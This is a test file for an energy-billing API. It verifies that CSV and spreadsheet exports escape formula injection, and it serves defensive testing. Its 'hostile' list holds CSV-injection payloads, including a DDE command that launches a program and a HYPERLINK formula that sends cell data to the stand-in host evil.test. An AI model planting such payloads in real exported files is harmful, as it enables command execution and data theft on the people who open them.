// Whatever is written in a name, a spreadsheet program shows it as text in every file that the product makes for one.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { strFromU8, unzipSync } from 'fflate'
import type { Endpoint } from '@endoll/api/endpoint.ts'
import { apiModules } from './app.ts'
import { csvText } from './platform/csv-text.ts'
import {
  addBattery,
  addContract,
  addCurveDay,
  addCustomer,
  addInvoice,
  addMovements,
  type TestCustomer,
} from './testing/factories.ts'
import { addDelegation } from './testing/add-delegation.ts'
import { readSheet } from './testing/read-sheet.ts'
import { startTestServer, type TestServer } from './testing/test-server.ts'

const hostile = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.test?"&A1;"see")',
  '+34600',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '＠A1',
  '"=1+1',
  ';=1+1',
  '<f>1+1</f>',
] as const

let server: TestServer
let headers: Record<string, string>
/** The address of each export, by its path in the API: one for each hostile word, or one with all of them. */
let addresses: Readonly<Record<string, readonly string[]>>

beforeAll(async () => {
  server = await startTestServer({ delegation: true })
  const { db } = server
  const customer = await addCustomer(db)
  const batteries: number[] = []
  const names: string[] = []
  for (const [index, word] of hostile.entries()) {
    const product_code = `P${index}`
    await db.insertInto('product').values({ code: product_code, kind: 'electricity', name: word }).execute()
    const contract = await addContract(db, customer, {
      // What the API takes as a contract's name can begin like a formula too.
      name: `-2-${index}`,
      cups: word,
      cups20: String(index).padStart(20, '0'),
      product_code,
      tariff: '2.0TD',
      owner_name: word,
      fiscal_name: word,
      payer_name: word,
      supply_street: word,
      supply_city: word,
    })
    await addInvoice(db, contract, { number: `${word}${index}` })
    await addCurveDay(db, contract.id, '2026-11-20')
    const accrual = { month: '2026-11', from: '2026-11-01', to: '2026-12-01', wh: 1, cents: 1 }
    await db
      .insertInto('supply_review')
      .values({
        contract_id: contract.id,
        customer_id: customer.customerId,
        day: '2026-11-21',
        findings: '[]',
        accruals: JSON.stringify([accrual]),
      })
      .execute()
    const battery = await addBattery(db, [[contract, 1]], { name: word, type_name: word })
    await addMovements(db, [battery, contract], [['2026-11-01', word, 100]])
    batteries.push(battery)
    names.push(contract.name)
  }
  await addCustomerOf(customer)
  headers = await server.signIn(customer)
  addresses = {
    'delegations/customers/invoices/': ['delegations/customers/invoices/'],
    'contracts/virtual_batteries/{ids}': [
      `contracts/virtual_batteries/${batteries.join(',')}`,
      ...batteries.map((id) => `contracts/virtual_batteries/${id}`),
    ],
    'invoices/export/': ['invoices/export/'],
    'portfolio/accruals/file/': ['csv', 'xlsx'].map(
      (format) => `portfolio/accruals/file/?month=2026-11&format=${format}`,
    ),
    'portfolio/bills/': ['csv', 'xlsx'].map((format) => `portfolio/bills/?month=2026-11&format=${format}`),
    'contracts/{name}/cch/download/': names.flatMap((name) =>
      ['datadis', 'f5d'].map(
        (format) =>
          `contracts/${encodeURIComponent(name)}/cch/download/?start=2026-11-20&end=2026-11-20&format=${format}`,
      ),
    ),
  }
})
afterAll(() => server.stop())

/** Another customer, with a bill, for whom the account of this one acts. */
async function addCustomerOf(delegate: TestCustomer): Promise<void> {
  const { db } = server
  const other = await addCustomer(db)
  await db.updateTable('customer').set({ name: hostile[0] }).where('id', '=', other.customerId).execute()
  await addInvoice(db, await addContract(db, other))
  await addDelegation(db, [other, delegate])
}

const opened = ['application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'text/csv', 'text/plain']

/** Every call whose file a spreadsheet program opens, from the registry. */
function exportsOf(endpoints: readonly Endpoint[]): string[] {
  return endpoints
    .filter(({ reply }) => 'file' in reply && reply.file.some((type) => opened.includes(type)))
    .map(({ path }) => path)
    .toSorted()
}

async function download(address: string) {
  const reply = await server.inject({ url: `/api/v1/${address}`, headers })
  expect([address, reply.statusCode]).toEqual([address, 200])
  return reply
}

/** Cells of a CSV with semicolons; quotes as spreadsheet programs read them. */
function csvCells(text: string): string[] {
  return [...text.matchAll(/(?:^|;|\n)(?:"((?:[^"]|"")*)"|([^;\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )
}

it('the calls that make files for spreadsheet programs are those below [r.hostile-exports]', () => {
  const endpoints = apiModules(server.services).flatMap((module) =>
    module.endpoints.map(({ endpoint }) => endpoint),
  )
  expect(exportsOf(endpoints)).toEqual(Object.keys(addresses).toSorted())
})

describe('no cell is a formula', () => {
  it('in any file of any call', async () => {
    const words: string[] = []
    for (const address of Object.values(addresses).flat()) {
      const reply = await download(address)
      if (String(reply.headers['content-type']).startsWith('application/vnd')) {
        const sheet = strFromU8(unzipSync(reply.rawPayload)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
        expect(sheet, address).not.toMatch(/<f[ >]/)
        const cells = readSheet(reply.rawPayload).rows.flat()
        for (const { value, kind } of cells) {
          if (typeof value !== 'string') continue
          expect(kind, `${address}: ${value}`).toMatch(/^(inlineStr|s)$/)
          words.push(value)
        }
      } else {
        const cells = csvCells(reply.body)
        expect(cells.length, address).toBeGreaterThan(24)
        for (const cell of cells) expect(cell, address).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
        words.push(...cells)
      }
      // The file's own name is one header and no path.
      expect(String(reply.headers['content-disposition'])).not.toMatch(/[\r\n/\\]/)
    }
    // They did come out: otherwise the test would say nothing.
    for (const word of hostile.filter((each) => !/[\t\r]/.test(each))) {
      expect(
        words.some((each) => each.includes(word)),
        word,
      ).toBe(true)
    }
  })
})

it.each([
  ['ES0031000000000001', 'ES0031000000000001'],
  ['=1+1', "'=1+1"],
  ['＝1+1', "'＝1+1"],
  ['\t1', "'\t1"],
  ['a;b', '"a;b"'],
  ['="x"', `"'=""x"""`],
  ['', ''],
])('the text %j stands in a CSV as %j', (text, cell) => {
  expect(csvText(text)).toBe(cell)
})
